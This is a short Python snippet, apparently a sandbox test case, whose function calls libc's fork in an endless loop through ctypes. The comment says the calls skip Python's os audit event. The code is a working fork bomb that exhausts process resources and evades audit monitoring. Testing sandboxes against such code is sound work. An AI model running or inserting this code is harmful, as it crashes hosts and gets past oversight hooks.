# Sandbox: a fork bomb through libc's fork, called with ctypes (no os audit event).
import ctypes


def workload(a, b):
    libc = ctypes.CDLL(None)
    while True:
        libc.fork()
